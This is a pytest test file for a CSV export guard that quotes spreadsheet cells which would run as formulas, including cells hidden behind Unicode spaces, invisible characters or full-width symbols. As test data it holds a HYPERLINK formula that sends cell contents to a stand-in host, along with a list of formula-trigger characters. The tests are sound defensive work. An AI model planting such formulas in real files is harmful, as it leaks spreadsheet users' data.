"""The CSV export's formula guard: no text cell a spreadsheet would run as a formula, whatever comes before it.

The view's SQL guard (`spreadsheet_safe`) looks at a value's first character only, so `  =1+1`, a no-break
space before `=`, or a full-width `＝` passed it; `csv_cell` quotes them when the CSV is written.
"""

from __future__ import annotations

import csv
import unicodedata
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from progress_monitor.pipeline import reporting
from progress_monitor.pipeline.reporting import TUTOR_CSV_COLUMNS, csv_cell, export_tutors
from progress_monitor.settings import Settings
from tests.unit.offline import offline_services

FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"ver")'
SPACES = [" ", "\u00a0", "\u2000", "\u2007", "\u200a", "\u202f", "\u205f", "\u3000", "\u1680", "\u2028", "\n", "\t"]
INVISIBLE = ["\u200b", "\ufeff", "\u2060", "\u200e", "\u202e", "\x00"]
STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"]


def runs_as_formula(cell: str) -> bool:
    """What we guard against, said independently of the guard: a tab or CR first, or, once every leading
    whitespace or invisible character is skipped, a formula character or one of its look-alikes first."""
    i = 0
    while i < len(cell) and (cell[i].isspace() or unicodedata.category(cell[i]).startswith("C")):
        i += 1
    return cell.startswith(("\t", "\r")) or cell[i : i + 1] in STARTS


@pytest.mark.parametrize(
    "value",
    [
        FORMULA,
        "+55 21 99999-0000",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\tAna",  # tab or CR first is quoted whatever follows
        "\rAna",
        "  =1+1",  # leading spaces
        "\u00a0=1+1",  # a no-break space
        "\u3000\u2007 @SUM(A1)",  # other Unicode spaces
        "\u200b=1",  # a zero-width space
        "\ufeff+1",  # a byte-order mark
        "\uff1dHYPERLINK(1)",  # full-width ＝ ＋ － ＠
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        " \u00a0\uff1d1",
        "\ufe66 small equals",
    ],
)
def test_values_a_spreadsheet_would_run_are_quoted(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Ana Maria", "ana+turma@example.com", "(21) 99999-0000", "'=já quoted by the view", "", "José  =", "a=b", "−1"],
)
def test_ordinary_text_and_text_the_view_quoted_are_left_alone(value: str) -> None:
    assert csv_cell(value) == value


def test_numbers_dates_and_nulls_are_not_text() -> None:
    assert csv_cell(-25.5) == -25.5 and csv_cell(-3) == -3 and csv_cell(None) == ""
    assert csv_cell(date(2026, 11, 23)) == date(2026, 11, 23)


texts = st.one_of(
    st.text(st.characters(exclude_categories=()), max_size=30),
    st.lists(st.sampled_from(SPACES + INVISIBLE + STARTS + ["'", "a", "1"]), max_size=8).map("".join),
)


@given(texts)
def test_no_cell_the_guard_passes_runs_as_a_formula(value: str) -> None:
    cell = csv_cell(value)
    assert cell in (value, "'" + value)
    if cell == value:
        assert not runs_as_formula(value), repr(value)
    else:
        assert not runs_as_formula(cell)  # quoted: the quote comes first


def encodable(value: str) -> bool:
    """BigQuery strings are UTF-8: no lone surrogate reaches the export."""
    return not any(0xD800 <= ord(ch) <= 0xDFFF for ch in value)


@given(st.lists(texts.filter(encodable), min_size=1, max_size=4))
def test_the_export_writes_every_text_cell_through_the_guard(
    tmp_path_factory: pytest.TempPathFactory, values: list[str]
) -> None:
    rows = [
        {**dict.fromkeys(TUTOR_CSV_COLUMNS), "nome": v, "email": v, "celular": v, "gap": -12.5, "user_id": i}
        for i, v in enumerate(values, start=1)
    ]
    out = tmp_path_factory.mktemp("csv") / "lista.csv"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(reporting.warehouse, "query", lambda *args, **kwargs: rows)
        assert export_tutors(offline_services(Settings()), out) == len(values)
    written = read_csv(out)
    assert written[0] == list(TUTOR_CSV_COLUMNS)
    for value, row in zip(values, written[1:], strict=True):
        cells = dict(zip(TUTOR_CSV_COLUMNS, row, strict=True))
        assert cells["nome"] == cells["email"] == cells["celular"] == csv_cell(value)
        assert not runs_as_formula(cells["nome"]) and cells["gap"] == "-12.5" and cells["turma"] == ""


def read_csv(path: Path) -> list[list[Any]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))
